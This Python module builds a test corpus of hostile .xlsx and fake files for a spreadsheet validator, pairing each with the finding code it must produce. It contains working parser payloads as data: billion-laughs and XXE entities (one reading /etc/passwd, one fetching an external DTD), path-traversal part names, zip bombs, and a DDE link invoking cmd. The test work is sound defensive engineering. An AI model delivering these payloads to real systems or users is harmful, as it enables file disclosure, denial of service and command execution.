"""A generated corpus of hostile files (no binaries in the repository): each is a real template
filled by a clerk, then broken the way a careless or malicious sender would break it, or a file
that is not a workbook at all. ``corpus(base, out)`` writes them all and returns, for each, the
finding code it must give (SECURITY.md)."""

from __future__ import annotations

import io
import os
import struct
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

MB = 1024 * 1024
FORM_PART = "xl/worksheets/sheet1.xml"  # the form is the first sheet of every template


@dataclass(frozen=True)
class Hostile:
    name: str
    code: str  # the finding the file must give (first error, or the warning of a valid file)
    make: Callable[[bytes, Path], None]  # (the filled template's bytes, where to write)
    accepted: bool = False  # a valid file with a warning: consolidated


def parts_of(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i, zf.read(i.filename)) for i in zf.infolist()]


def repack(parts: list[tuple[zipfile.ZipInfo | str, bytes]], dest: Path, *, compression=zipfile.ZIP_DEFLATED) -> None:
    with zipfile.ZipFile(dest, "w", compression) as zout:
        for info, data in parts:
            name = info.filename if isinstance(info, zipfile.ZipInfo) else info
            zout.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 5, 8, 0, 0)), data, compress_type=compression)


def change_part(part: str, change: Callable[[bytes], bytes]) -> Callable[[bytes, Path], None]:
    def make(data: bytes, dest: Path) -> None:
        repack([(i, change(d) if i.filename == part else d) for i, d in parts_of(data)], dest)
    return make


def add_parts(extra: dict[str, bytes]) -> Callable[[bytes, Path], None]:
    def make(data: bytes, dest: Path) -> None:
        repack(parts_of(data) + list(extra.items()), dest)
    return make


def shared_string(marker: bytes, text: bytes) -> Callable[[bytes, Path], None]:
    """The form cell holding ``marker`` moved into a shared-strings part with ``text`` (raw
    XML, e.g. Excel's escape ``_x0007_`` of a BEL), as Excel saves text."""
    import re

    def make(data: bytes, dest: Path) -> None:
        parts = parts_of(data)
        out = []
        for info, body in parts:
            if info.filename == FORM_PART:
                body = re.sub(rb't="inlineStr"><is><t[^>]*>[^<]*' + re.escape(marker) + rb"[^<]*</t></is>",
                              b't="s"><v>0</v>', body, count=1)
            elif info.filename == "[Content_Types].xml":
                body = body.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
            elif info.filename == "xl/_rels/workbook.xml.rels":
                body = body.replace(b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats'
                                    b'.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                                    b"</Relationships>")
            out.append((info, body))
        out.append(("xl/sharedStrings.xml", b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.'
                    b'openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>' + text
                    + b"</t></si></sst>"))
        repack(out, dest)
    return make


def raw(content: bytes) -> Callable[[bytes, Path], None]:
    return lambda data, dest: dest.write_bytes(content)


# ---- XML entity attacks, into every XML part ---------------------------------------------------
LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
          + b"]>")
XXE = b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_PARAM = b'<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://example.invalid/x.dtd"> %ext;]>'


def with_doctype(doctype: bytes) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        if xml.startswith(b"<?xml"):
            end = xml.index(b"?>") + 2
            return xml[:end] + doctype + xml[end:]
        return doctype + xml
    return change


def utf16_with_doctype(xml: bytes) -> bytes:
    """The part re-encoded in UTF-16 (which XML allows and Office never writes), entities inside."""
    text = with_doctype(XXE)(xml).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return text.encode("utf-16")


# ---- zips broken in transit ------------------------------------------------------------------------
def truncate(fraction: float) -> Callable[[bytes, Path], None]:
    return lambda data, dest: dest.write_bytes(data[: max(1, int(len(data) * fraction))])


def flip_in_member(part: str, where: float = 0.5) -> Callable[[bytes, Path], None]:
    """A byte of one member's compressed data changed (the CRC no longer matches)."""
    def make(data: bytes, dest: Path) -> None:
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            info = zf.getinfo(part)
        # local header: 30 bytes + name + extra, then the data
        start = info.header_offset
        name_len, extra_len = struct.unpack("<HH", data[start + 26:start + 30])
        at = start + 30 + name_len + extra_len + min(info.compress_size - 1, int(info.compress_size * where))
        broken = bytearray(data)
        broken[at] ^= 0x55
        dest.write_bytes(bytes(broken))
    return make


# ---- bombs -------------------------------------------------------------------------------------------
def deflated_member(name: str, size: int, fill: bytes = b" ") -> Callable[[bytes, Path], None]:
    """The form sheet replaced by ``size`` bytes that deflate to almost nothing."""
    def make(data: bytes, dest: Path) -> None:
        others = [(i, d) for i, d in parts_of(data) if i.filename != name]
        repack(others, dest)
        with zipfile.ZipFile(dest, "a", zipfile.ZIP_DEFLATED) as zf, zf.open(name, "w", force_zip64=True) as fh:
            head = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            fh.write(head)
            block = fill * MB
            for _ in range(size // MB):
                fh.write(block)
            fh.write(b"</sheetData></worksheet>")
    return make


def forged_size(part: str, claimed: int) -> Callable[[bytes, Path], None]:
    """The central directory claims ``claimed`` bytes for one member (a bomb's signature)."""
    def make(data: bytes, dest: Path) -> None:
        buf = bytearray(data)
        pos = data.find(b"PK\x01\x02")
        while pos != -1:  # central directory entries: uncompressed size at +24, name length at +28
            name_len = struct.unpack("<H", data[pos + 28:pos + 30])[0]
            if data[pos + 46:pos + 46 + name_len] == part.encode():
                struct.pack_into("<I", buf, pos + 24, claimed)
                break
            pos = data.find(b"PK\x01\x02", pos + 4)
        dest.write_bytes(bytes(buf))
    return make


def random_member(size: int) -> Callable[[bytes, Path], None]:
    """A picture-like member that does not compress: the file itself is large."""
    return add_parts({"xl/media/image1.png": os.urandom(size)})


# ---- sheets that claim too much ----------------------------------------------------------------------
def form_sheet(change: Callable[[bytes], bytes]) -> Callable[[bytes, Path], None]:
    return change_part(FORM_PART, change)


def dimension(ref: bytes) -> Callable[[bytes], bytes]:
    def change(xml: bytes) -> bytes:
        start = xml.index(b"<dimension")
        end = xml.index(b"/>", start) + 2
        return xml[:start] + b'<dimension ref="' + ref + b'"/>' + xml[end:]
    return change


def extra_rows(rows: Iterator[bytes]) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", b"".join(rows) + b"</sheetData>")


def many_rows(n: int) -> Callable[[bytes], bytes]:
    return extra_rows(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (300 + i, 300 + i) for i in range(n))


def one_cell(ref: bytes) -> Callable[[bytes], bytes]:
    row = int(bytes(c for c in ref if 48 <= c <= 57))
    return extra_rows(iter([b'<row r="%d"><c r="%s"><v>1</v></c></row>' % (row, ref)]))


def wide_row(n: int) -> Callable[[bytes], bytes]:
    from ctcong_xl.core.forms import column_letter

    cells = b"".join(b'<c r="%s400"><v>1</v></c>' % column_letter(j).encode() for j in range(1, n + 1))
    return extra_rows(iter([b'<row r="400">' + cells + b"</row>"]))


def nested(depth: int) -> Callable[[bytes], bytes]:
    return lambda xml: xml.replace(b"</sheetData>", b"</sheetData>" + b"<extLst>" * depth + b"</extLst>" * depth, 1)


# ---- not a workbook ------------------------------------------------------------------------------------
def ods_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", '<?xml version="1.0"?><office:document-content '
                    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>')
    return out.getvalue()


def docx_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'/>")
    return out.getvalue()


HTML = ("<html><head><meta charset='utf-8'></head><body><table><tr><td>STT</td><td>Nội dung công việc</td>"
        "</tr><tr><td>1</td><td>Đề án chuyển đổi số</td></tr></table></body></html>").encode()
CSV = "STT,Nội dung công việc,Thời hạn hoàn thành\n1,Đề án chuyển đổi số,Quý III/2026\n".encode("utf-8-sig")
XLS_LIKE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE2 header with nothing behind it


def corpus_kinds(template_parts: list[str], xml_parts: list[str]) -> list[Hostile]:
    """Every hostile kind, with variants; ``xml_parts`` are the XML parts of the template."""
    out: list[Hostile] = []
    add = out.append
    for n, part in enumerate(xml_parts):
        for label, doctype in (("laughs", LAUGHS), ("xxe", XXE), ("xxe-param", XXE_PARAM)):
            add(Hostile(f"entity-{label}-{n:02d}.xlsx", "xml_entities", change_part(part, with_doctype(doctype))))
        add(Hostile(f"entity-utf16-{n:02d}.xlsx", "xml_not_utf8", change_part(part, utf16_with_doctype)))
    for n, part in enumerate(template_parts):
        for where in (0.0, 0.5, 0.99):
            add(Hostile(f"crc-{n:02d}-{int(where * 100):02d}.xlsx", "file_damaged", flip_in_member(part, where)))
    for pct in (1, 3, 5, 10, 15, 20, 25, 30, 35, 40, 45, 50, 55, 60, 65, 70, 75, 80, 85, 90, 95, 99):
        add(Hostile(f"truncated-{pct:02d}.xlsx", "file_damaged", truncate(pct / 100)))
    add(Hostile("truncated-minus-one.xlsx", "file_damaged", lambda d, p: p.write_bytes(d[:-1])))
    add(Hostile("truncated-no-end.xlsx", "file_damaged", lambda d, p: p.write_bytes(d[:-22])))
    for n, name in enumerate(("../../evil.xml", "/etc/cron.d/x", "C:\\Windows\\x.xml", "xl/../../../x.xml",
                              "..\\..\\x.xml")):
        add(Hostile(f"traversal-{n}.xlsx", "part_name_unsafe", add_parts({name: b"<x/>"})))
    add(Hostile("bomb-sheet-200mb.xlsx", "part_too_large", deflated_member(FORM_PART, 200 * MB)))
    add(Hostile("bomb-ratio-40mb.xlsx", "part_ratio", deflated_member(FORM_PART, 40 * MB)))
    add(Hostile("bomb-strings-40mb.xlsx", "part_ratio", deflated_member("xl/sharedStrings.xml", 40 * MB)))
    for n, part in enumerate(template_parts):
        add(Hostile(f"bomb-forged-{n}.xlsx", "part_too_large", forged_size(part, 3_000_000_000)))
    add(Hostile("large-21mb.xlsx", "file_too_large", random_member(21 * MB)))
    for n, ref in enumerate((b"A1:XFD1048576", b"A1:A1048576", b"A1:Z20001", b"A1048576", b"B2:XFD5")):
        code = "sheet_too_many_columns" if b"XFD5" in ref else "sheet_too_many_rows"
        add(Hostile(f"dimension-{n}.xlsx", code, form_sheet(dimension(ref))))
    for n, ref in enumerate((b"XFD1048576", b"A1048576", b"XFD400", b"GS400", b"A20001")):
        code = "sheet_too_many_rows" if int(bytes(c for c in ref if 48 <= c <= 57)) > 20000 else "sheet_too_many_columns"
        add(Hostile(f"last-cell-{n}.xlsx", code, form_sheet(one_cell(ref))))
    add(Hostile("rows-1m.xlsx", "sheet_too_many_rows", form_sheet(many_rows(1_000_000))))
    add(Hostile("rows-25k.xlsx", "sheet_too_many_rows", form_sheet(many_rows(25_000))))
    add(Hostile("columns-16384.xlsx", "sheet_too_many_columns", form_sheet(wide_row(16384))))
    add(Hostile("nested-100k.xlsx", "quarter_invalid", form_sheet(nested(100_000))))  # harmless: read as usual
    for n, (part, what) in enumerate((
        ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60),
        ("xl/externalLinks/externalLink1.xml", b'<externalLink xmlns="http://schemas.openxmlformats.org/'
                                               b'spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
                                               b'ddeTopic="/C calc"/></externalLink>'),
        ("xl/externalLinks/externalLink2.xml", b'<externalLink xmlns="http://schemas.openxmlformats.org/'
                                               b'spreadsheetml/2006/main"><externalBook/></externalLink>'),
        ("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + b"\x00" * 60),
        ("xl/activeX/activeX1.xml", b"<ax/>"),
        ("xl/connections.xml", b"<connections/>"),
    )):
        add(Hostile(f"active-{n}.xlsx", "file_active_content", add_parts({part: what})))
    for n, content in enumerate((b"", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", HTML, CSV, os.urandom(4096),
                                 "Kính gửi Văn phòng UBND tỉnh".encode(), b"PK\x03\x04" + os.urandom(200))):
        code = "file_damaged" if content in (b"",) or content.startswith(b"PK") else "file_not_excel"
        add(Hostile(f"not-excel-{n}.xlsx", code, raw(content)))
    add(Hostile("csv-renamed.csv", "file_old_format", raw(CSV)))
    add(Hostile("ods-renamed.xlsx", "file_old_format", raw(ods_bytes())))
    add(Hostile("docx-renamed.xlsx", "file_not_excel", raw(docx_bytes())))
    add(Hostile("xls-header-only.xlsx", "file_damaged", raw(XLS_LIKE)))
    return out
